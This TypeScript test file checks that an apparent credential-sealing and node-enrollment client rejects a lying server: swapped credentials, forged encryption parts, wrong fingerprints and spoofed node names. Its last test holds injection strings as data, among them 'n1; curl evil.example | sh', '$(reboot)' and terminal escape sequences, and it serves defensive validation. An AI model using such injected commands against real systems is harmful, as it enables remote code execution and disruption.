import { base64url, enrollmentTuple, formatFingerprint } from "@gatehouse/core";
import { sha256 } from "@gatehouse/kit";
import { NodeState } from "@gatehouse/wire";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { confirmHost, confirmHosts } from "../src/operator/confirm-hosts.ts";
import { provenCredential } from "../src/operator/proven-credential.ts";
import { resealCredential } from "../src/operator/reseal-credential.ts";
import { findNodes } from "../src/operator/roster-nodes.ts";
import { apiKeyItMade, nameItSaid } from "../src/operator/server-said.ts";
import { type ListedNode, LyingServer, openedBy, type Sealed } from "./lying-server.ts";

const MILD = "mild_0123456789abcdefghijklmnopqrstuvwxyz";
const GRAVE = "grave_0123456789abcdefghijklmnopqrstuvwxyz";

const bytes = (length: number, fill: number) => new Uint8Array(length).fill(fill);

let server: LyingServer;
let good: ListedNode;
let taken: ListedNode;
let mild: Sealed;
let grave: Sealed;

beforeEach(async () => {
  server = await LyingServer.open(2);
  [good, taken] = server.nodes as [ListedNode, ListedNode];
  mild = await server.seal("mild", MILD, [good]);
  grave = await server.seal("grave", GRAVE, [good]);
  server.shown.set("mild", mild).set("grave", grave);
});

afterEach(() => server[Symbol.asyncDispose]());

describe("an operator who seals one credential to a further node has no other one sealed to it", () => {
  const reseal = () => resealCredential(server.operator, { name: "mild", roster: server.roster, to: [taken] });
  const reads = (of: Sealed) => openedBy(taken, server.operator.server.orgId, { of, part: server.put[0] });
  const nothing = async () => {
    expect(server.put).toEqual([]);
    expect(await reads(grave)).toBeUndefined();
  };

  test("by a server that tells the truth", async () => {
    await reseal();
    expect(await reads(mild)).toBe(MILD);
    expect(await reads(grave)).toBeUndefined();
  });

  test("by a server that shows the other one under its name", async () => {
    server.shown.set("mild", grave);
    await expect(reseal()).rejects.toMatchObject({ code: "credentials.refused" });
    await nothing();
  });

  test("by a server that puts the organisation's part of the other one into its document", async () => {
    const kid = base64url(server.operator.server.orgEncryptionKey);
    type Parts = readonly { readonly header: { readonly kid: string } }[];
    const partsOf = ({ jwe }: Sealed): Parts => JSON.parse(jwe).recipients;
    const others = partsOf(mild).filter(({ header }) => header.kid !== kid);
    const recipients = [...others, partsOf(grave).find(({ header }) => header.kid === kid)];
    server.shown.set("mild", { ...mild, jwe: JSON.stringify({ ...JSON.parse(mild.jwe), recipients }) });
    await expect(reseal()).rejects.toMatchObject({ code: "sealed.unreadable" });
    await nothing();
  });

  test("by parts of nodes that it may not be for any more, which are left out", async () => {
    server.shown.set("mild", { ...mild, nodeIds: [] });
    await reseal();
    expect(await reads(mild)).toBe(MILD);
    const put = JSON.parse(server.put[0]?.jwe ?? "");
    expect(put.recipients).toHaveLength(2);
    expect(await openedBy(good, server.operator.server.orgId, { of: mild, part: server.put[0] })).toBeUndefined();
  });
});

test("what a node hands over it seals onward itself, by an order that no other node follows; the organisation's key opens nothing for it", async () => {
  const transfer = { name: "grave", roster: server.roster, to: [taken], from: good };
  await expect(resealCredential(server.operator, transfer)).rejects.toMatchObject({ code: "commands.not_found" });
  const recipients = [good.encryptionKey, taken.encryptionKey];
  expect(server.ordered).toEqual([{ nodeIds: [good.nodeId], recipients }]);
  expect(server.put).toEqual([]);
});

describe("a host is put on the roster by the fingerprint that it printed", () => {
  const keys = { identityKey: bytes(32, 1), encryptionKey: bytes(32, 2), caKey: bytes(91, 3) };
  const host = { ...keys, codeSha256: bytes(32, 4), enrollmentId: "0190a1b2-0000-7000-8000-000000000001" };
  const nodeId = "0190a1b2-0000-7000-8000-000000000002";
  const printed = (own: object = {}, name = "n9") => {
    const { identityKey: serverIdentityKey, orgId, orgKey } = server.operator.server;
    const { codeSha256 } = host;
    return formatFingerprint(
      sha256(enrollmentTuple({ ...keys, serverIdentityKey, orgId, orgKey, codeSha256, name, ...own })),
    );
  };
  const confirm = () => confirmHost(server.operator, "n9", printed());
  beforeEach(() => {
    server.shownNodes.set("n9", { id: nodeId, name: "n9" });
    server.shownWaiting = host;
  });

  test("with exactly the keys that the fingerprint is of", async () => {
    await confirm();
    expect(server.confirmed).toMatchObject([{ nodes: [{}, {}, { nodeId, ...keys }] }]);
    expect((await server.operator.files.nodeNames()).get("n9")).toBe(nodeId);
  });

  test.each<[string, object]>([
    ["encryption key", { encryptionKey: bytes(32, 9) }],
    ["identity key", { identityKey: bytes(32, 9) }],
    ["authority", { caKey: bytes(91, 9) }],
    ["code", { codeSha256: bytes(32, 9) }],
  ])("and not where the server shows another %s: nothing is signed, nobody remembered", async (_, lie) => {
    server.shownWaiting = { ...host, ...lie };
    await expect(confirm()).rejects.toMatchObject({ code: "enroll.wrong_fingerprint" });
    expect(server.confirmed).toEqual([]);
    expect(await server.operator.files.roster()).toBeUndefined();
    expect((await server.operator.files.nodeNames()).size).toBe(0);
  });

  test.each<[string, string]>([
    ["is not on the roster", "enroll.not_waiting"],
    ["is there with other keys", "enroll.wrong_fingerprint"],
  ])("and not where the server calls it confirmed and it %s", async (_, code) => {
    const id = code === "enroll.not_waiting" ? nodeId : good.nodeId;
    server.shownNodes.set("n9", { id, name: "n9", state: NodeState.CONFIRMED });
    server.shownWaiting = { ...host, enrollmentId: "" };
    await expect(confirm()).rejects.toMatchObject({ code });
    expect(server.confirmed).toEqual([]);
    expect((await server.operator.files.nodeNames()).size).toBe(0);
  });

  describe("beside others", () => {
    const ids = [7, 8, 9].map((last) => `0190a1b2-0000-7000-8000-00000000000${last}`);
    const names = ids.map((_, at) => `m${at}`);
    const keysOf = (at: number) => ({ ...keys, encryptionKey: bytes(32, 20 + at) });
    const all = () => names.map((asked, at) => ({ asked, fingerprint: printed(keysOf(at), asked) }));
    const onRosters = () => server.confirmed.map((roster) => roster.nodes.slice(2).map((node) => node.nodeId));
    const told = async (hosts = all()) =>
      (await confirmHosts(server.operator, hosts)).map((one) => ("node" in one ? "" : one.failure.code));
    beforeEach(() => {
      for (const [at, name] of names.entries()) {
        server.shownNodes.set(name, { id: ids[at] ?? "", name });
        server.shownWaitingOf.set(name, keysOf(at));
      }
    });

    test("in one version of the roster, which names them all", async () => {
      expect(await told()).toEqual(["", "", ""]);
      expect(onRosters()).toEqual([ids, ids, ids]);
      expect(new Set(server.confirmed.map(({ version }) => version)).size).toBe(1);
      expect((await server.operator.files.roster())?.nodes.map(({ nodeId: id }) => id).slice(2)).toEqual(ids);
      expect([...(await server.operator.files.nodeNames()).keys()]).toEqual(names);
    });

    test("and one whose keys are others than those of its fingerprint stands on no version; the others are confirmed", async () => {
      server.shownWaitingOf.set("m1", { ...keysOf(1), encryptionKey: bytes(32, 99) });
      expect(await told()).toEqual(["", "enroll.wrong_fingerprint", ""]);
      expect(onRosters()).toEqual([
        [ids[0], ids[2]],
        [ids[0], ids[2]],
      ]);
      expect([...(await server.operator.files.nodeNames()).keys()]).toEqual(["m0", "m2"]);
    });

    test("and a fingerprint counts for its own host alone", async () => {
      const [a, b, c] = all().map(({ fingerprint }) => fingerprint);
      const swapped = [b, a, c].map((fingerprint = "", at) => ({ asked: names[at] ?? "", fingerprint }));
      expect(await told(swapped)).toEqual(["enroll.wrong_fingerprint", "enroll.wrong_fingerprint", ""]);
      expect(onRosters()).toEqual([[ids[2]]]);
    });

    test("and one that the server refuses keeps none of the others, whichever it is", async () => {
      server.refusedNodeIds.add(ids[0] ?? "");
      expect(await told()).toEqual([expect.stringContaining("."), "", ""]);
      expect([...(await server.operator.files.nodeNames()).keys()]).toEqual(["m1", "m2"]);
      expect((await server.operator.files.roster())?.version).toBe(server.roster.version + 1);
    });

    test("and one that replaces another, who leaves the roster by that, has a version of its own", async () => {
      const replaced = { id: good.nodeId, name: "m1" };
      server.shownNodes.set(good.nodeId, replaced);
      server.shownWaitingOf.set("m1", { ...keysOf(1), replacesNodeId: good.nodeId });
      expect(await told()).toEqual(["", "", ""]);
      expect(
        server.confirmed.map(({ version, nodes }) => [
          Number(version),
          nodes.some(({ nodeId: id }) => id === good.nodeId),
        ]),
      ).toEqual([
        [server.roster.version + 1, true],
        [server.roster.version + 1, true],
        [server.roster.version + 2, false],
      ]);
    });

    test("and not where two of them are one host: nothing is signed", async () => {
      server.shownNodes.set("m1", { id: ids[0] ?? "", name: "m1" });
      await expect(confirmHosts(server.operator, all())).rejects.toMatchObject({ code: "usage.invalid" });
      expect(server.confirmed).toEqual([]);
      expect(await server.operator.files.roster()).toBeUndefined();
    });
  });
});

describe("the document of a credential is taken", () => {
  const find = () => provenCredential(server.operator, server.roster, "mild");

  test("under the name and id that it was sealed under", async () => {
    expect(await find()).toMatchObject({ bound: { name: "mild", credentialId: mild.credentialId, version: 1 } });
    server.shown.delete("mild");
    expect(await find()).toBeUndefined();
  });

  test.each<[string, () => Sealed]>([
    ["another name", () => grave],
    ["another's id", () => ({ ...mild, credentialId: grave.credentialId })],
    ["another version", () => ({ ...mild, version: 2n })],
    ["another's signature", () => ({ ...mild, signature: grave.signature })],
  ])("not under %s", async (_, lie) => {
    server.shown.set("mild", lie());
    await expect(find()).rejects.toMatchObject({ code: "credentials.refused" });
  });
});

describe("a node that an operator names is the one that was confirmed by that name", () => {
  const find = (text: string) => findNodes(server.operator, server.roster, [text]);
  const untrusted = { code: "server.untrusted" };

  beforeEach(async () => {
    await server.operator.files.rememberNode("n1", good.nodeId);
    await server.operator.files.rememberNode("n2", taken.nodeId);
    server.shownNodes.set("n1", { id: good.nodeId, name: "n1" });
  });

  test("by name and by id", async () => {
    expect(await find("n1")).toMatchObject([{ nodeId: good.nodeId }]);
    server.shownNodes.set(good.nodeId, { id: taken.nodeId, name: "n2" });
    expect(await find(good.nodeId)).toMatchObject([{ nodeId: good.nodeId }]);
  });

  test.each(["n1", "n2"])("and not another one that the server shows under its name, calling it %s", async (name) => {
    server.shownNodes.set("n1", { id: taken.nodeId, name });
    await expect(find("n1")).rejects.toMatchObject(untrusted);
  });

  test("and not one that is known here by another name, where this name is not known", async () => {
    server.shownNodes.set("n3", { id: taken.nodeId, name: "n3" });
    await expect(find("n3")).rejects.toMatchObject(untrusted);
  });
});

test("what a server made or named is part of no command and on no terminal unless it has that form", () => {
  const key = `gha_0123abcd_${"A".repeat(43)}`;
  expect(apiKeyItMade(key)).toBe(key);
  expect(nameItSaid("n1")).toBe("n1");
  for (const lie of ["", "n1; curl evil.example | sh", "n1\n$(reboot)", "\u001b]0;x\u0007n1", "-x", `${key}\u009b2J`]) {
    expect(() => nameItSaid(lie), lie).toThrow(expect.objectContaining({ code: "server.untrusted" }));
    expect(() => apiKeyItMade(lie), lie).toThrow(expect.objectContaining({ code: "server.untrusted" }));
  }
});
